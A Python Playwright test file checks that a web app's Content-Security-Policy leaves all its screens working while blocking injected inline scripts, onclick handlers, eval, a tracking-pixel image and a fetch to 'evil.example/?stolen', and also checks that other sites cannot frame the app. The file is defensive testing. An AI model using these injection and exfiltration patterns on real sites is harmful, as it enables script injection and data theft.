"""The Content-Security-Policy in a real Chromium: every screen runs under it, on both backends, and what it forbids
does not run."""

from __future__ import annotations

import re
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from tests.app_server import RunningApp
from tests.browser.looking import open_dataset, settle, shelve
from tests.browser.test_query import COUNT, TOWNS, ask
from tests.browser.upload_screen import UploadScreen
from tests.shelf_client import unique

REFUSED = re.compile(r"Content Security Policy|Permissions.Policy|Cross-Origin-Opener-Policy")


@pytest.fixture
def refusals(page: Page) -> Iterator[list[str]]:
    """What Chromium says it refused, in the page and in every frame and worker of it."""
    found: list[str] = []

    def note(message: ConsoleMessage) -> None:
        if REFUSED.search(message.text):
            found.append(message.text[:300])

    page.on("console", note)
    return found


def test_every_screen_does_its_work_under_the_policy(
    shelf: RunningApp, page: Page, refusals: list[str], tmp_path: Path
) -> None:
    file = tmp_path / f"{unique('policy')}.csv"
    # What is on the shelf already is not sent by itself.
    data = TOWNS + f"Oslo,{uuid.uuid4().int % 10**9}\n".encode()
    file.write_bytes(data)
    screen = UploadScreen(shelf, page).open()
    screen.choose(file)
    dataset_id = screen.wait_until_open()
    expect(page.get_by_text("Rows 1–100")).to_be_visible()
    with page.expect_download() as download:
        page.get_by_role("link", name=f"Download: {file.name}").click()
    assert download.value.path().read_bytes() == data
    with shelf.client() as client:
        dataset = client.get(f"/datasets/{dataset_id}").json()

    open_dataset(page, shelf, dataset, tab="Columns")
    expect(page.get_by_text("height").first).to_be_visible()
    open_dataset(page, shelf, dataset, tab="Chart")
    expect(page.get_by_test_id("stVegaLiteChart").locator("svg.marks")).to_be_visible()
    open_dataset(page, shelf, dataset, tab="Query")
    expect(page.get_by_text(re.compile("is v1: town, height"))).to_be_visible()
    ask(page, COUNT)
    expect(page.get_by_text(re.compile("^3 rows in"))).to_be_visible()
    for tab in ("Share", "Use it"):
        open_dataset(page, shelf, dataset, tab=tab)
        settle(page)
    for address in ("/", "/upload", "/links", "/trash", "/activity", "/account", "/people", "/shared?token=none"):
        page.goto(shelf.url + address)
        settle(page)
    page.goto(f"{shelf.url}/storage")
    expect(page.get_by_text("All is well")).to_be_visible()
    page.goto(f"{shelf.api}/docs")
    # The page has every call of the API on it: until it is drawn, a busy machine takes its time.
    page.get_by_text("/api/ml/v1/datasets", exact=True).first.click(timeout=90_000)
    page.get_by_role("button", name="Try it out").click()
    page.get_by_role("button", name="Execute").click()
    expect(page.get_by_text("Response headers").first).to_be_visible()
    assert refusals == []


def test_what_the_policy_forbids_does_not_run(local_app: RunningApp, page: Page, refusals: list[str]) -> None:
    dataset = shelve(local_app, description="![seen](https://tracker.example/pixel.png) and a text")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    open_dataset(page, local_app, dataset)
    settle(page)
    answers = page.evaluate(
        """async () => {
          const tried = { inline: false, eval: true, fetch: true };
          const made = document.createElement("script");
          made.textContent = "window.ran = true";
          document.body.append(made);
          tried.inline = window.ran === true;
          const link = document.createElement("a");
          link.setAttribute("onclick", "window.ran = true");
          document.body.append(link);
          link.click();
          tried.handler = window.ran === true;
          // Later, since what the test itself asks for may evaluate anything while it is asked.
          await new Promise((done) => setTimeout(() => {
            try { (0, eval)("1"); } catch { tried.eval = false; }
            done();
          }));
          try { await fetch("https://evil.example/?stolen", { mode: "no-cors" }); } catch { tried.fetch = false; }
          return tried;
        }"""
    )
    assert answers == {"inline": False, "handler": False, "eval": False, "fetch": False}
    assert any("inline" in each for each in refusals)
    assert not [url for url in asked if "tracker.example" in url or "evil.example" in url]


class _Elsewhere(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<p>You have won</p>")

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[str]:
    """A site of another origin, on this machine."""
    with ThreadingHTTPServer(("127.0.0.1", 0), _Elsewhere) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


def test_the_shelf_cannot_be_put_into_a_frame_of_another_site(
    local_app: RunningApp, page: Page, refusals: list[str], elsewhere: str
) -> None:
    page.goto(elsewhere)
    page.evaluate(
        """(url) => new Promise((done) => {
          const frame = document.createElement("iframe");
          frame.src = url;
          frame.onload = done;
          document.body.append(frame);
        })""",
        local_app.url,
    )
    assert any("frame-ancestors" in each for each in refusals)
